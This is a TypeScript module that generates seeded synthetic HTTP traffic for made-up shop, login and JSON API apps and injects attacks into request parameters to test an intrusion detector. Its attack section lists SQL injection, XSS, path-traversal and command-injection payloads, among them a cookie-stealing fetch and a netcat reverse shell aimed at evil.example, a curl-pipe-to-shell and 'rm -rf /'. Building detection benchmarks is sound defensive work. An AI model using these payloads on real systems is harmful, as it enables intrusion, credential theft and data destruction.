/**
 * Seeded generators of realistic normal HTTP traffic for several made-up
 * applications, and of attacks injected into their parameters (tests and
 * bench/detect-small.ts). Each application mixes the value kinds real apps
 * have: numeric ids, user names with digits, e-mails, dates, free text with
 * punctuation, names with accents and apostrophes, small enumerations, JSON
 * bodies; lengths and vocabularies have long tails, so new values keep coming
 * after training as they do in production.
 *
 * Nothing here is tuned to the detector: the apps were written from what the
 * endpoints of a shop, a login/search site and a JSON API typically carry.
 */
import type { HttpObservation } from '../../../../node/observation.js'
import { createPrng } from '../../../../core/prng.js'
import type { Prng } from '../../../../core/prng.js'
import { createShopTraffic, toObservation } from '../../../../scripts/demo-shop.js'

/** One normal request of an app, without time/source (the driver adds them). */
export interface AppRequest {
  method: string
  path: string
  query: string
  body: string
  contentType?: string
}

export interface TrafficApp {
  readonly name: string
  /** The next normal request. */
  next: () => AppRequest
}

export type AppFactory = (seed: number) => TrafficApp

// ---------------------------------------------------------------- vocabulary
const SYL = ['ka', 'ro', 'mi', 'lu', 'sa', 'te', 'na', 'vi', 'do', 'el', 'an', 'ma', 'ri', 'co', 'ber', 'tin', 'la', 'so', 'fe', 'gu',
  'ha', 'jo', 'ne', 'pa', 'qui', 'ste', 'wa', 'yo', 'zen', 'bel', 'mar', 'tho', 'ing', 'ash', 'ly', 'ken', 'dra', 'vo', 'ul', 'ix']
const FIRST = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent',
  'victor', 'walter', 'maria', 'jose', 'li', 'wei', 'anna', 'lars', 'sven', 'noor', 'omar', 'yuki', 'kim', 'paolo', 'chloe', 'liam']
const ACCENTED = ['José', 'Zoë', 'Renée', 'Jürgen', 'François', 'Åsa', 'Łukasz', 'Núñez', 'Müller', 'Söderström', 'Çelik', 'Dvořák']
const APOS = ["O'Brien", "D'Angelo", "O'Neil", "N'Diaye"]
const DOMAINS = ['example.com', 'mail.example.org', 'post.test', 'inbox.example.net', 'web.example', 'uni.example.edu', 'co.example.uk']
const PRODUCT_WORDS = ['red', 'blue', 'green', 'black', 'wool', 'cotton', 'scarf', 'lamp', 'chair', 'table', 'mug', 'teapot', 'guitar',
  'piano', 'novel', 'cookbook', 'puzzle', 'kite', 'boots', 'sneakers', 'jacket', 'garden', 'hose', 'rake', 'candle', 'vase', 'ball',
  'racket', 'tent', 'backpack', 'bottle', 'kettle', 'pan', 'knife', 'blanket', 'pillow', 'clock', 'radio', 'tv', 'usb', 'hdmi', 'cable',
  'phone', 'case', 'charger', 'desk', 'sofa', 'rug', 'oak', 'steel', 'kids', 'winter', 'summer', 'sale', 'xl', 'mini', 'pro', '4k']
const TEXT_WORDS = ['the', 'a', 'is', 'it', 'was', 'and', 'but', 'very', 'not', 'good', 'great', 'bad', 'arrived', 'late', 'quickly',
  'quality', 'price', 'would', 'buy', 'again', 'size', 'fits', 'small', 'large', 'colour', 'exactly', 'as', 'described', 'my', 'son',
  'loves', 'box', 'damaged', 'works', 'fine', 'after', 'days', 'recommend', 'seller', 'packaging', 'thanks', 'could', 'be', 'better',
  'battery', 'lasts', 'hours', 'cheap', 'feels', 'solid', 'disappointed', 'happy', 'five', 'stars', 'return', 'refund']
const CITIES = ['Berlin', 'Madrid', 'Lyon', 'Porto', 'Austin', 'Osaka', 'Leeds', 'Graz', 'Gent', 'Turku', 'New York', 'São Paulo', 'Saint-Étienne']
const STREETS = ['Main St', 'High Street', 'Calle Mayor', 'Rue de la Paix', 'Hauptstraße', 'Elm Avenue', 'Baker St', 'Via Roma']

const pick = <T>(r: Prng, xs: readonly T[]): T => xs[r.nextInt(xs.length)]
const int = (r: Prng, lo: number, hi: number): number => lo + r.nextInt(hi - lo + 1)
/** Zipf-like pick: early entries far more frequent (popular products, frequent users). */
const zipf = <T>(r: Prng, xs: readonly T[]): T => xs[Math.min(xs.length - 1, Math.floor(xs.length * Math.pow(r.next(), 2.2)))]
const pad2 = (n: number): string => String(n).padStart(2, '0')
const form = (pairs: Array<[string, string]>): string => new URLSearchParams(pairs).toString()
const cap = (s: string): string => s[0].toUpperCase() + s.slice(1)

function word (r: Prng): string {
  let w = ''
  const n = int(r, 2, 3)
  for (let i = 0; i < n; i++) w += pick(r, SYL)
  return w
}

function personName (r: Prng): string {
  const x = r.next()
  const first = x < 0.06 ? pick(r, ACCENTED) : cap(pick(r, FIRST))
  const y = r.next()
  const last = y < 0.03 ? pick(r, APOS) : y < 0.08 ? pick(r, ACCENTED) : y < 0.16 ? `${cap(word(r))}-${cap(word(r))}` : cap(word(r))
  return `${first} ${last}`
}

function username (r: Prng): string {
  const base = r.next() < 0.5 ? pick(r, FIRST) : word(r)
  const x = r.next()
  if (x < 0.35) return `${base}${int(r, 1, 9999)}`
  if (x < 0.45) return `${base}.${word(r)}`
  if (x < 0.52) return `${base}_${word(r)}`
  if (x < 0.58) return `${base}${int(r, 1950, 2010)}`
  return base
}

function email (r: Prng): string {
  const x = r.next()
  const user = x < 0.4 ? `${pick(r, FIRST)}.${word(r)}` : x < 0.8 ? `${word(r)}${int(r, 1, 99)}` : x < 0.9 ? `${pick(r, FIRST)}+${pick(r, ['shop', 'news', 'x'])}` : `${pick(r, FIRST)}_${word(r)}`
  return `${user}@${pick(r, DOMAINS)}`
}

function isoDate (r: Prng, y0 = 2018, y1 = 2025): string { return `${int(r, y0, y1)}-${pad2(int(r, 1, 12))}-${pad2(int(r, 1, 28))}` }

function password (r: Prng): string {
  const chars = 'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789'
  const special = '!@#$%&*?-_.'
  let s = ''
  const n = int(r, 8, 16)
  for (let i = 0; i < n; i++) s += r.next() < 0.08 ? pick(r, [...special]) : chars[r.nextInt(chars.length)]
  return s
}

/** Search terms: 1–4 product words, sometimes a typo or a model number; short terms ("tv") are common. */
function searchTerms (r: Prng): string {
  const n = r.next() < 0.45 ? 1 : int(r, 2, 4)
  const ws: string[] = []
  for (let i = 0; i < n; i++) {
    const x = r.next()
    ws.push(x < 0.08 ? `${pick(r, ['x', 'a', 'z', 'mk', 'rt'])}${int(r, 1, 999)}` : x < 0.12 ? word(r) : zipf(r, PRODUCT_WORDS))
  }
  return ws.join(' ')
}

/** Free text: sentences of review words with commas, full stops, exclamation and question marks, apostrophes, numbers; lognormal length. */
function freeText (r: Prng): string {
  const words = Math.max(1, Math.round(Math.exp(2.2 + 0.8 * r.nextGaussian())))
  let s = ''
  let sentenceStart = true
  for (let i = 0; i < Math.min(words, 400); i++) {
    let w = r.next() < 0.04 ? String(int(r, 1, 100)) : r.next() < 0.03 ? pick(r, ["don't", "it's", "isn't", "I'm", "can't"]) : pick(r, TEXT_WORDS)
    if (sentenceStart) w = cap(w)
    sentenceStart = false
    s += (i === 0 ? '' : ' ') + w
    const x = r.next()
    if (x < 0.07) s += ','
    else if (x < 0.14) { s += pick(r, ['.', '.', '.', '!', '?']); sentenceStart = true }
  }
  return r.next() < 0.6 ? s + pick(r, ['.', '!', '']) : s
}

// ------------------------------------------------------------------- the apps

/** A web shop: catalogue with small enumerations, product ids, search, cart, checkout with an address, reviews. */
export const shopApp: AppFactory = (seed) => {
  const r = createPrng(`shop:${seed}`)
  return {
    name: 'shop',
    next: () => {
      const x = r.next()
      if (x < 0.22) {
        const pairs: Array<[string, string]> = [['category', zipf(r, ['books', 'toys', 'garden', 'kitchen', 'music', 'sports', 'shoes', 'electronics', 'home', 'beauty'])]]
        if (r.next() < 0.6) pairs.push(['page', String(int(r, 1, 12))])
        if (r.next() < 0.4) pairs.push(['sort', pick(r, ['price', 'name', 'rating', 'newest', 'price_desc'])])
        if (r.next() < 0.2) pairs.push(['min_price', String(int(r, 1, 200))])
        return { method: 'GET', path: '/products', query: form(pairs), body: '' }
      }
      if (x < 0.45) return { method: 'GET', path: '/product', query: form([['id', String(zipf(r, Array.from({ length: 3000 }, (_, i) => i + 1)))]]), body: '' }
      if (x < 0.62) return { method: 'GET', path: '/search', query: form([['q', searchTerms(r)], ...(r.next() < 0.3 ? [['page', String(int(r, 2, 9))] as [string, string]] : [])]), body: '' }
      if (x < 0.76) return { method: 'POST', path: '/cart', query: '', body: form([['product', String(int(r, 1, 3000))], ['qty', String(r.next() < 0.8 ? 1 : int(r, 2, 12))], ['action', pick(r, ['add', 'add', 'add', 'remove', 'update'])]]) }
      if (x < 0.88) {
        return {
          method: 'POST',
          path: '/checkout',
          query: '',
          body: form([['name', personName(r)], ['email', email(r)], ['street', `${pick(r, STREETS)} ${int(r, 1, 240)}${r.next() < 0.1 ? pick(r, ['a', 'b', ', 2nd floor', '/3']) : ''}`],
            ['city', pick(r, CITIES)], ['zip', r.next() < 0.8 ? String(int(r, 10000, 99999)) : `${pick(r, ['SW1A', 'LS1', 'EC2'])} ${int(r, 1, 9)}${pick(r, ['AA', 'BD', 'XY'])}`],
            ['country', zipf(r, ['DE', 'ES', 'FR', 'US', 'GB', 'PT', 'AT', 'JP', 'BE', 'FI'])], ['shipping', pick(r, ['standard', 'express', 'pickup'])]])
        }
      }
      return { method: 'POST', path: '/review', query: '', body: form([['product', String(int(r, 1, 3000))], ['rating', String(int(r, 1, 5))], ['text', freeText(r)]]) }
    }
  }
}

/** A login and search site: user names with digits, e-mail logins, passwords with symbols, searches with short terms, profile pages. */
export const portalApp: AppFactory = (seed) => {
  const r = createPrng(`portal:${seed}`)
  return {
    name: 'portal',
    next: () => {
      const x = r.next()
      if (x < 0.25) return { method: 'POST', path: '/login', query: '', body: form([['user', r.next() < 0.3 ? email(r) : username(r)], ['password', password(r)], ...(r.next() < 0.5 ? [['remember', 'on'] as [string, string]] : [])]) }
      if (x < 0.55) {
        const pairs: Array<[string, string]> = [['q', searchTerms(r)]]
        if (r.next() < 0.3) pairs.push(['page', String(int(r, 1, 30))])
        if (r.next() < 0.2) pairs.push(['lang', pick(r, ['en', 'de', 'es', 'fr', 'ja'])])
        return { method: 'GET', path: '/search', query: form(pairs), body: '' }
      }
      if (x < 0.75) return { method: 'GET', path: '/profile', query: form([['user', username(r)], ...(r.next() < 0.3 ? [['tab', pick(r, ['posts', 'about', 'friends', 'photos'])] as [string, string]] : [])]), body: '' }
      if (x < 0.87) return { method: 'POST', path: '/register', query: '', body: form([['user', username(r)], ['email', email(r)], ['name', personName(r)], ['password', password(r)], ['birth', isoDate(r, 1945, 2008)], ['terms', 'on']]) }
      return { method: 'POST', path: '/message', query: '', body: form([['to', username(r)], ['subject', freeText(r).slice(0, 60)], ['body', freeText(r)]]) }
    }
  }
}

/** A JSON API: ids in queries, date ranges, small enumerations, cursors, JSON bodies (one opaque parameter). */
export const apiApp: AppFactory = (seed) => {
  const r = createPrng(`api:${seed}`)
  const hex = (n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[r.nextInt(16)]).join('')
  return {
    name: 'api',
    next: () => {
      const x = r.next()
      if (x < 0.3) {
        const pairs: Array<[string, string]> = [['customer', String(int(r, 1, 99_999))]]
        if (r.next() < 0.5) { pairs.push(['from', isoDate(r, 2023, 2025)]); pairs.push(['to', isoDate(r, 2024, 2025)]) }
        if (r.next() < 0.6) pairs.push(['status', zipf(r, ['open', 'paid', 'shipped', 'cancelled', 'refunded'])])
        pairs.push(['limit', pick(r, ['10', '20', '50', '100'])])
        if (r.next() < 0.3) pairs.push(['cursor', hex(16)])
        return { method: 'GET', path: '/api/v1/orders', query: form(pairs), body: '' }
      }
      if (x < 0.5) return { method: 'GET', path: '/api/v1/users', query: form([r.next() < 0.5 ? ['email', email(r)] : ['id', `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`]]), body: '' }
      if (x < 0.72) {
        const items = Array.from({ length: int(r, 1, 4) }, () => ({ sku: `${pick(r, ['AB', 'CX', 'ZK', 'MN'])}-${int(r, 100, 9999)}`, qty: int(r, 1, 9) }))
        return { method: 'POST', path: '/api/v1/orders', query: '', body: JSON.stringify({ customer: int(r, 1, 99_999), items, note: r.next() < 0.2 ? freeText(r).slice(0, 80) : '' }), contentType: 'application/json' }
      }
      if (x < 0.87) return { method: 'GET', path: '/api/v1/events', query: form([['since', `${isoDate(r, 2024, 2025)}T${pad2(int(r, 0, 23))}:${pad2(int(r, 0, 59))}:${pad2(int(r, 0, 59))}Z`], ['type', zipf(r, ['login', 'logout', 'order', 'refund', 'error', 'signup'])]]), body: '' }
      return { method: 'POST', path: '/api/v1/comments', query: '', body: form([['order', String(int(r, 1, 999_999))], ['author', personName(r)], ['text', freeText(r)]]) }
    }
  }
}

/** The demo shop of scripts/demo-shop.ts (npm run demo and the collaboration e2e tests): the case issue 3 reported. */
export const demoShopApp: AppFactory = (seed) => {
  const t = createShopTraffic(`detect-small:${seed}`)
  return {
    name: 'demo-shop',
    next: () => {
      const o = toObservation(t.next())
      const req: AppRequest = { method: o.method, path: o.path, query: o.query, body: o.body }
      if (o.headers['content-type'] != null) req.contentType = o.headers['content-type']
      return req
    }
  }
}

export const APPS: ReadonlyArray<{ name: string, create: AppFactory }> = [
  { name: 'shop', create: shopApp },
  { name: 'portal', create: portalApp },
  { name: 'api', create: apiApp },
  { name: 'demo-shop', create: demoShopApp }
]

/** Turns app requests into timed observations (one every stepMs, sources from a pool). */
export function toHttpObservation (req: AppRequest, time: number, source: string): HttpObservation {
  const headers: Record<string, string> = {}
  if (req.contentType != null) headers['content-type'] = req.contentType
  else if (req.body !== '') headers['content-type'] = 'application/x-www-form-urlencoded'
  return { kind: 'http', time, method: req.method, path: req.path, query: req.query, body: req.body, headers, source }
}

// ------------------------------------------------------------------- attacks

export type AttackKind = 'sqli' | 'xss' | 'traversal' | 'overlong' | 'command'

export const ATTACK_KINDS: readonly AttackKind[] = ['sqli', 'xss', 'traversal', 'overlong', 'command']

const SQLI = ["' OR '1'='1", "1' OR 1=1 --", "' UNION SELECT username, password FROM users--", "1; DROP TABLE orders--", "admin'--",
  "' AND SLEEP(5)--", '1 OR 1=1', "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "') OR ('a'='a", '1) UNION ALL SELECT NULL,NULL,version()#']
const XSS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.cookie)>', "<svg/onload=fetch('//evil.example/'+document.cookie)>",
  "javascript:alert('x')", '<iframe src="javascript:alert(1)"></iframe>', "'-alert(1)-'", '<body onload=alert(1)>']
const TRAVERSAL = ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/shadow', '....//....//etc/passwd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '../../../../../proc/self/environ', 'file:///etc/passwd']
const COMMAND = ['; cat /etc/passwd', '| nc evil.example 4444 -e /bin/sh', '`id`', '$(curl -s http://evil.example/x.sh | sh)', '&& wget http://evil.example/a -O /tmp/a',
  '; rm -rf / #', '|| ping -c 10 127.0.0.1']

/** One attack payload of the kind (seeded). */
export function attackPayload (r: Prng, kind: AttackKind): string { return payload(r, kind) }

function payload (r: Prng, kind: AttackKind): string {
  switch (kind) {
    case 'sqli': return pick(r, SQLI)
    case 'xss': return pick(r, XSS)
    case 'traversal': return pick(r, TRAVERSAL)
    case 'command': return pick(r, COMMAND)
    case 'overlong': return pick(r, ['A', 'x', '%', '9', 'a1']).repeat(int(r, 600, 8000))
  }
}

/**
 * An attack: a normal request of the app with one parameter (query or form
 * body; JSON bodies are attacked inside a string field) replaced by a payload,
 * or the payload appended to the value (as scanners do: `id=12' OR …`).
 * Undefined when the request has no parameter to attack.
 */
export function injectAttack (req: AppRequest, kind: AttackKind, r: Prng): AppRequest | undefined {
  const p = payload(r, kind)
  const append = kind !== 'overlong' && r.next() < 0.5
  if (req.contentType === 'application/json') {
    let j: Record<string, unknown>
    try { j = JSON.parse(req.body) as Record<string, unknown> } catch { return undefined }
    const keys = Object.keys(j)
    if (keys.length === 0) return undefined
    const k = pick(r, keys)
    j[k] = append ? `${String(j[k])}${p}` : p
    return { ...req, body: JSON.stringify(j) }
  }
  const inBody = req.body !== '' && (req.query === '' || r.next() < 0.5)
  const raw = inBody ? req.body : req.query
  if (raw === '') return undefined
  const pairs = [...new URLSearchParams(raw).entries()]
  const i = r.nextInt(pairs.length)
  pairs[i] = [pairs[i][0], append ? pairs[i][1] + p : p]
  const out = form(pairs)
  return inBody ? { ...req, body: out } : { ...req, query: out }
}
